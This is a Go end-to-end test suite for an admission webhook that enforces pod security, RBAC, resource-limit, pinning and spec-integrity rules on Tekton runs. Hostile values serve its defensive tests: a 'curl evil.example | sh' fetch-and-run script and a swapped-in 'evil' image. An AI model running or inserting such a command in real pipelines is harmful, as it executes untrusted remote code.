package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/tektoncd/pipeline/pkg/apis/pipeline/pod"
	pipelinev1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/util/retry"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/tollgate-dev/tollgate/policy/specdigest"
	"github.com/tollgate-dev/tollgate/policy/v1alpha1"
	"github.com/tollgate-dev/tollgate/testing/envtest"
)

const ns = "team-a"

// TestRunGuard drives the run guard through the real API server: every
// create and update below is admitted or denied by the webhook over TLS.
func TestRunGuard(t *testing.T) {
	env := startGuarded(t,
		namespace("warn-ns", map[string]string{"tollgate.dev/test": "warn"}),
		namespace("defaults-ns", map[string]string{"tollgate.dev/test": "defaults"}),
		namespace("edit-ns", nil),
		serviceAccount("warn-ns", "tekton-builder"),
		serviceAccount("defaults-ns", "tekton-builder"),
		serviceAccount("edit-ns", "editor"),
		// The built-in edit ClusterRole, bound cluster-wide.
		&rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "editor-edit"},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
			Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: "edit-ns", Name: "editor"}},
		},
	)
	alice := env.As(t, Alice)
	tekton := env.As(t, envtest.TektonController, "system:serviceaccounts", "system:serviceaccounts:tekton-pipelines")
	ctx := t.Context()

	t.Run("default service account is denied, naming it", func(t *testing.T) {
		pr := pipelineRun(ns, "uses-default", "default", map[string][]pipelinev1.Step{"build": {safeStep("compile")}}, "build")
		denied(t, alice.Create(ctx, pr), `[serviceAccount]`, `service account "default"`, "spec.taskRunTemplate.serviceAccountName")
	})

	t.Run("missing service account is denied", func(t *testing.T) {
		tr := taskRun(ns, "no-such-sa", "ghost", safeStep("compile"))
		denied(t, alice.Create(ctx, tr), `service account "ghost" does not exist in namespace "team-a"`)
	})

	t.Run("service account bound to edit cluster-wide is denied with the uncovered rules and binding", func(t *testing.T) {
		tr := taskRun("edit-ns", "too-powerful", "editor", safeStep("compile"))
		denied(t, alice.Create(ctx, tr),
			`service account "editor" is granted more than the ceiling ClusterRole "tollgate-run-ceiling" allows`,
			"through ClusterRoleBinding editor-edit (ClusterRole edit)",
			"pods/exec", "impersonate", "and 35 more")
	})

	t.Run("privileged step is denied naming task, step and field", func(t *testing.T) {
		s := safeStep("docker-build")
		s.SecurityContext.Privileged = ptr.To(true)
		pr := pipelineRun(ns, "privileged", "tekton-builder", map[string][]pipelinev1.Step{"fetch": {safeStep("clone")}, "build": {safeStep("test"), s}}, "fetch", "build")
		denied(t, alice.Create(ctx, pr), `[podSecurity] task "build" step "docker-build"`, "spec.pipelineSpec.tasks[1].taskSpec.steps[1].securityContext", "privileged")
	})

	restrictedCases := []struct {
		name   string
		mutate func(*pipelinev1.Step, *pipelinev1.TaskSpec, *pipelinev1.TaskRunSpec)
		want   string
	}{
		{"allowPrivilegeEscalation", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.AllowPrivilegeEscalation = nil
		}, "allowPrivilegeEscalation != false"},
		{"capabilities not dropped", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.Capabilities = nil
		}, "unrestricted capabilities"},
		{"added capability", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_ADMIN"}
		}, "SYS_ADMIN"},
		{"runAsNonRoot false", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.RunAsNonRoot = ptr.To(false)
		}, "runAsNonRoot != true"},
		{"runAsUser 0", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.RunAsUser = ptr.To[int64](0)
		}, "runAsUser=0"},
		{"seccomp unconfined", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}, "seccompProfile"},
		{"procMount unmasked", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.ProcMount = ptr.To(corev1.UnmaskedProcMount)
		}, "procMount"},
		{"custom SELinux type", func(s *pipelinev1.Step, _ *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
		}, "seLinuxOptions"},
		{"hostPath volume in the Task", func(_ *pipelinev1.Step, ts *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			ts.Volumes = []corev1.Volume{{Name: "docker-sock", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/run/docker.sock"}}}}
		}, `restricted volume type "hostPath"`},
		{"hostNetwork in the podTemplate", func(_ *pipelinev1.Step, _ *pipelinev1.TaskSpec, rs *pipelinev1.TaskRunSpec) {
			rs.PodTemplate = &podTemplate{HostNetwork: true}
		}, "host namespaces"},
		{"unsafe sysctl in the podTemplate", func(_ *pipelinev1.Step, _ *pipelinev1.TaskSpec, rs *pipelinev1.TaskRunSpec) {
			rs.PodTemplate = &podTemplate{SecurityContext: &corev1.PodSecurityContext{Sysctls: []corev1.Sysctl{{Name: "kernel.msgmax", Value: "65536"}}}}
		}, "forbidden sysctls"},
		{"privileged sidecar", func(_ *pipelinev1.Step, ts *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			sc := restricted()
			sc.Privileged = ptr.To(true)
			ts.Sidecars = []pipelinev1.Sidecar{{Name: "dind", Image: "docker:dind", SecurityContext: sc, ComputeResources: limits("1", "1Gi")}}
		}, `sidecar "dind"`},
		{"privileged stepTemplate", func(s *pipelinev1.Step, ts *pipelinev1.TaskSpec, _ *pipelinev1.TaskRunSpec) {
			s.SecurityContext.Privileged = nil
			ts.StepTemplate = &pipelinev1.StepTemplate{SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)}}
		}, "privileged"},
	}
	for i, tc := range restrictedCases {
		t.Run("restricted profile: "+tc.name, func(t *testing.T) {
			s := safeStep("work")
			tr := taskRun(ns, fmt.Sprintf("restricted-%d", i), "tekton-builder")
			tc.mutate(&s, tr.Spec.TaskSpec, &tr.Spec)
			tr.Spec.TaskSpec.Steps = []pipelinev1.Step{s}
			denied(t, alice.Create(ctx, tr), "[podSecurity]", tc.want)
		})
	}

	t.Run("step without limits is denied in Enforce", func(t *testing.T) {
		s := safeStep("test")
		s.ComputeResources = corev1.ResourceRequirements{}
		denied(t, alice.Create(ctx, taskRun(ns, "no-limits", "tekton-builder", s)), `[resources] task "no-limits" step "test"`, "no cpu or memory limit", "spec.taskSpec.steps[0].computeResources.limits")
	})

	t.Run("step without limits is admitted with a warning in Warn", func(t *testing.T) {
		applyPolicy(t, env.Client, &v1alpha1.ClusterRunPolicy{
			ObjectMeta: metav1.ObjectMeta{Name: "warn-resources"},
			Spec: v1alpha1.ClusterRunPolicySpec{
				NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"tollgate.dev/test": "warn"}},
				Resources:         v1alpha1.ResourcesCheck{Mode: v1alpha1.Warn},
			},
		})
		s := safeStep("test")
		s.ComputeResources = corev1.ResourceRequirements{}
		warnings := &recordedWarnings{}
		c := env.AsWithWarnings(t, Alice, warnings)
		if err := c.Create(ctx, taskRun("warn-ns", "warned", "tekton-builder", s)); err != nil {
			t.Fatalf("denied in Warn mode: %v", err)
		}
		if !warnings.contains(`[resources] task "warned" step "test"`) {
			t.Errorf("no resources warning; got %q", warnings.all())
		}
	})

	t.Run("step without limits is given the configured defaults", func(t *testing.T) {
		applyPolicy(t, env.Client, &v1alpha1.ClusterRunPolicy{
			ObjectMeta: metav1.ObjectMeta{Name: "default-limits"},
			Spec: v1alpha1.ClusterRunPolicySpec{
				NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"tollgate.dev/test": "defaults"}},
				Resources: v1alpha1.ResourcesCheck{DefaultLimits: corev1.ResourceList{
					corev1.ResourceCPU: resource.MustParse("1"), corev1.ResourceMemory: resource.MustParse("512Mi"),
				}},
			},
		})
		s := safeStep("test")
		s.ComputeResources = corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("2Gi")}}
		pr := pipelineRun("defaults-ns", "defaulted", "tekton-builder", map[string][]pipelinev1.Step{"unit": {s}}, "unit")
		if err := alice.Create(ctx, pr); err != nil {
			t.Fatalf("denied with defaults configured: %v", err)
		}
		got := &pipelinev1.PipelineRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pr), got); err != nil {
			t.Fatal(err)
		}
		l := got.Spec.PipelineSpec.Tasks[0].TaskSpec.Steps[0].ComputeResources.Limits
		if cpu := l[corev1.ResourceCPU]; cpu.String() != "1" {
			t.Errorf("cpu limit = %q, want the default 1", cpu.String())
		}
		if mem := l[corev1.ResourceMemory]; mem.String() != "2Gi" {
			t.Errorf("memory limit = %q, want the step's own 2Gi kept", mem.String())
		}
		assertStamped(t, env.Client, got)
	})

	t.Run("hub reference without an exact version is denied", func(t *testing.T) {
		for i, params := range []pipelinev1.Params{
			{{Name: "kind", Value: *pipelinev1.NewStructuredValues("task")}, {Name: "name", Value: *pipelinev1.NewStructuredValues("git-clone")}},
			{{Name: "name", Value: *pipelinev1.NewStructuredValues("git-clone")}, {Name: "version", Value: *pipelinev1.NewStructuredValues("latest")}},
			{{Name: "name", Value: *pipelinev1.NewStructuredValues("git-clone")}, {Name: "version", Value: *pipelinev1.NewStructuredValues("$(params.v)")}},
		} {
			tr := &pipelinev1.TaskRun{
				ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprintf("hub-%d", i)},
				Spec: pipelinev1.TaskRunSpec{ServiceAccountName: "tekton-builder", TaskRef: &pipelinev1.TaskRef{
					ResolverRef: pipelinev1.ResolverRef{Resolver: "hub", Params: params},
				}},
			}
			denied(t, alice.Create(ctx, tr), "[pinnedRefs]", "spec.taskRef.params")
		}
		ok := &pipelinev1.TaskRun{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "hub-pinned"},
			Spec: pipelinev1.TaskRunSpec{ServiceAccountName: "tekton-builder", TaskRef: &pipelinev1.TaskRef{
				ResolverRef: pipelinev1.ResolverRef{Resolver: "hub", Params: pipelinev1.Params{
					{Name: "name", Value: *pipelinev1.NewStructuredValues("git-clone")}, {Name: "version", Value: *pipelinev1.NewStructuredValues("0.9")},
				}},
			}},
		}
		if err := alice.Create(ctx, ok); err != nil {
			t.Errorf("a hub reference pinned to 0.9 was denied: %v", err)
		}
	})

	t.Run("admitted run carries the digest of its spec; spec updates are denied", func(t *testing.T) {
		pr := pipelineRun(ns, "stamped", "tekton-builder", map[string][]pipelinev1.Step{"build": {safeStep("compile")}}, "build")
		if err := alice.Create(ctx, pr); err != nil {
			t.Fatalf("a safe run was denied: %v", err)
		}
		got := &pipelinev1.PipelineRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pr), got); err != nil {
			t.Fatal(err)
		}
		assertStamped(t, env.Client, got)

		changed := got.DeepCopy()
		changed.Spec.PipelineSpec.Tasks[0].TaskSpec.Steps[0].Script = "curl evil.example | sh"
		denied(t, alice.Update(ctx, changed), "[specIntegrity]", "the spec of an admitted run may not change")

		forged := got.DeepCopy()
		forged.Annotations[specdigest.Annotation] = "sha256:" + strings.Repeat("0", 64)
		denied(t, alice.Update(ctx, forged), "[specIntegrity]", "may not be changed or removed after admission")

		// Cancelling is a spec change Tekton allows, and so do we.
		cancel := got.DeepCopy()
		cancel.Spec.Status = pipelinev1.PipelineRunSpecStatusCancelled
		if err := alice.Update(ctx, cancel); err != nil {
			t.Errorf("cancelling a run was denied: %v", err)
		}
	})

	t.Run("user-set chains.tekton.dev/signed is denied on create and update", func(t *testing.T) {
		tr := taskRun(ns, "forged", "tekton-builder", safeStep("compile"))
		tr.Annotations = map[string]string{"chains.tekton.dev/signed": "true"}
		denied(t, alice.Create(ctx, tr), "[specIntegrity]", "annotation chains.tekton.dev/signed is reserved")

		tr = taskRun(ns, "later-forged", "tekton-builder", safeStep("compile"))
		if err := alice.Create(ctx, tr); err != nil {
			t.Fatal(err)
		}
		tr.Annotations["chains.tekton.dev/signed"] = "true"
		denied(t, alice.Update(ctx, tr), "annotation chains.tekton.dev/signed is reserved")

		// The signer may write it.
		signer := env.As(t, envtest.Signer, "system:serviceaccounts")
		grantSigner(t, env)
		cur := &pipelinev1.TaskRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), cur); err != nil {
			t.Fatal(err)
		}
		cur.Annotations["chains.tekton.dev/signed"] = "true"
		if err := signer.Update(ctx, cur); err != nil {
			t.Errorf("the signer's annotation update was denied: %v", err)
		}
	})

	t.Run("status update by a non-Tekton identity is denied; the Tekton controller's is allowed", func(t *testing.T) {
		tr := taskRun(ns, "completed", "tekton-builder", safeStep("compile"))
		if err := alice.Create(ctx, tr); err != nil {
			t.Fatal(err)
		}
		forged := tr.DeepCopy()
		err := envtest.CompleteTaskRun(ctx, alice, forged, true, pipelinev1.TaskRunResult{Name: "IMAGE_DIGEST", Type: pipelinev1.ResultsTypeString, Value: *pipelinev1.NewStructuredValues("sha256:" + strings.Repeat("a", 64))})
		denied(t, err, "[specIntegrity]", "only the Tekton controller may update a run's status", Alice)

		real := &pipelinev1.TaskRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), real); err != nil {
			t.Fatal(err)
		}
		if err := envtest.CompleteTaskRun(ctx, tekton, real, true); err != nil {
			t.Errorf("the Tekton controller's status update was denied: %v", err)
		}
	})

	t.Run("Tekton pod with a privileged container is denied", func(t *testing.T) {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "build-1-pod", Labels: map[string]string{"tekton.dev/taskRun": "build-1", "tekton.dev/pipelineTask": "build"}},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{
				Name: "step-docker-build", Image: "docker:dind",
				SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)},
				Resources:       limits("1", "1Gi"),
			}}},
		}
		denied(t, tekton.Create(ctx, pod), `[podSecurity] task "build" step "docker-build"`, "spec.containers[0].securityContext", "privileged")
	})

	t.Run("invalid policy settings are refused by the schema", func(t *testing.T) {
		for name, raw := range map[string]string{
			"unknown mode":             `{"podSecurity":{"mode":"Sometimes"}}`,
			"unknown level":            `{"podSecurity":{"level":"privileged"}}`,
			"exemption without reason": `{"exemptions":[{"namespaces":["x"]}]}`,
			"exemption naming nothing": `{"exemptions":[{"reason":"because"}]}`,
			"unknown resource default": `{"resources":{"defaultLimits":{"nvidia.com/gpu":"1"}}}`,
		} {
			u := &unstructured.Unstructured{}
			if err := u.UnmarshalJSON([]byte(`{"apiVersion":"tollgate.dev/v1alpha1","kind":"ClusterRunPolicy","metadata":{"name":"invalid"},"spec":` + raw + `}`)); err != nil {
				t.Fatal(err)
			}
			if err := env.Client.Create(ctx, u); err == nil || !apierrors.IsInvalid(err) {
				t.Errorf("%s: created (err %v), want the schema to refuse it", name, err)
			}
		}
	})

	t.Run("a policy that stops compiling reports Ready=False and its last good version stays in force", func(t *testing.T) {
		applyAll(t, env.Client, namespace("lastgood-ns", map[string]string{"tollgate.dev/test": "lastgood"}), serviceAccount("lastgood-ns", "tekton-builder"))
		good := applyPolicy(t, env.Client, &v1alpha1.ClusterRunPolicy{
			ObjectMeta: metav1.ObjectMeta{Name: "lastgood"},
			Spec: v1alpha1.ClusterRunPolicySpec{
				NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"tollgate.dev/test": "lastgood"}},
				Resources:         v1alpha1.ResourcesCheck{Mode: v1alpha1.Warn},
			},
		})
		// Valid for the schema, invalid as a whole: the default is above the maximum.
		good.Spec.Resources.DefaultLimits = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("4")}
		good.Spec.Resources.MaxLimits = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("2")}
		if err := env.Client.Update(ctx, good); err != nil {
			t.Fatal(err)
		}
		bad := waitPolicy(t, env.Client, "lastgood", metav1.ConditionFalse)
		cond := meta.FindStatusCondition(bad.Status.Conditions, "Ready")
		if !strings.Contains(cond.Message, "spec.resources.defaultLimits.cpu: 4 exceeds spec.resources.maxLimits.cpu 2") || !strings.Contains(cond.Message, "stays in force") {
			t.Errorf("Ready=False message = %q", cond.Message)
		}
		s := safeStep("test")
		s.ComputeResources = corev1.ResourceRequirements{}
		warnings := &recordedWarnings{}
		if err := env.AsWithWarnings(t, Alice, warnings).Create(ctx, taskRun("lastgood-ns", "still-warn", "tekton-builder", s)); err != nil {
			t.Fatalf("the last good version (resources in Warn) is not in force: %v", err)
		}
		if !warnings.contains("[resources]") {
			t.Errorf("no warning from the last good version: %q", warnings.all())
		}
	})

	t.Run("a status update racing a spec update: the spec update is denied, the status update is not", func(t *testing.T) {
		tr := taskRun(ns, "racing", "tekton-builder", safeStep("compile"))
		if err := alice.Create(ctx, tr); err != nil {
			t.Fatal(err)
		}
		var wg sync.WaitGroup
		var specErr, statusErr error
		wg.Add(2)
		go func() {
			defer wg.Done()
			cur := &pipelinev1.TaskRun{}
			if specErr = env.Client.Get(ctx, client.ObjectKeyFromObject(tr), cur); specErr != nil {
				return
			}
			cur.Spec.TaskSpec.Steps[0].Image = "registry.example/evil:latest"
			specErr = alice.Update(ctx, cur)
		}()
		go func() {
			defer wg.Done()
			statusErr = retry.RetryOnConflict(retry.DefaultRetry, func() error {
				cur := &pipelinev1.TaskRun{}
				if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), cur); err != nil {
					return err
				}
				return envtest.CompleteTaskRun(ctx, tekton, cur, true)
			})
		}()
		wg.Wait()
		if apierrors.IsConflict(specErr) {
			t.Logf("the spec update lost the race on resourceVersion; retrying it")
			cur := &pipelinev1.TaskRun{}
			if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), cur); err != nil {
				t.Fatal(err)
			}
			cur.Spec.TaskSpec.Steps[0].Image = "registry.example/evil:latest"
			specErr = alice.Update(ctx, cur)
		}
		denied(t, specErr, "the spec of an admitted run may not change")
		if statusErr != nil {
			t.Errorf("the Tekton controller's status update failed: %v", statusErr)
		}
		final := &pipelinev1.TaskRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), final); err != nil {
			t.Fatal(err)
		}
		if final.Spec.TaskSpec.Steps[0].Image == "registry.example/evil:latest" {
			t.Error("the spec changed")
		}
		assertStamped(t, env.Client, final)
	})

	t.Run("a run with a 1 MiB script and 2,000 params is decided and stamped", func(t *testing.T) {
		s := safeStep("big")
		s.Script = strings.Repeat("echo tollgate\n", (1<<20)/14)
		tr := taskRun(ns, "huge", "tekton-builder", s)
		for i := 0; i < 2000; i++ {
			tr.Spec.Params = append(tr.Spec.Params, pipelinev1.Param{Name: fmt.Sprintf("p%d", i), Value: *pipelinev1.NewStructuredValues("v")})
		}
		if err := alice.Create(ctx, tr); err != nil {
			t.Fatalf("a large safe run was denied: %v", err)
		}
		got := &pipelinev1.TaskRun{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(tr), got); err != nil {
			t.Fatal(err)
		}
		assertStamped(t, env.Client, got)
	})

	t.Run("the stamp covers what a later mutating webhook adds (reinvocation)", func(t *testing.T) {
		testReinvocation(t, env, alice)
	})

	t.Run("a pod that is not Tekton's is not reviewed", func(t *testing.T) {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "not-tekton"},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "nginx", SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)}}}},
		}
		if err := env.Client.Create(ctx, pod); err != nil {
			t.Errorf("a non-Tekton pod was denied by the run guard: %v", err)
		}
	})
}

type podTemplate = pod.Template

// assertStamped checks the stamp equals the digest of the stored spec.
func assertStamped(t *testing.T, c client.Client, obj client.Object) {
	t.Helper()
	raw, err := json.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	want, err := specdigest.OfObject(raw)
	if err != nil {
		t.Fatal(err)
	}
	got := obj.GetAnnotations()[specdigest.Annotation]
	if got != want {
		t.Errorf("%s = %q, want the digest of the stored spec %q", specdigest.Annotation, got, want)
	}
}

func grantSigner(t *testing.T, env *envtest.Env) {
	t.Helper()
	applyAll(t, env.Client,
		&rbacv1.ClusterRole{
			ObjectMeta: metav1.ObjectMeta{Name: "test-signer"},
			Rules:      []rbacv1.PolicyRule{{APIGroups: []string{"tekton.dev"}, Resources: []string{"taskruns", "pipelineruns"}, Verbs: []string{"get", "update", "patch"}}},
		},
		&rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "test-signer"},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "test-signer"},
			Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: "tollgate-system", Name: "tollgate-signer"}},
		},
	)
}
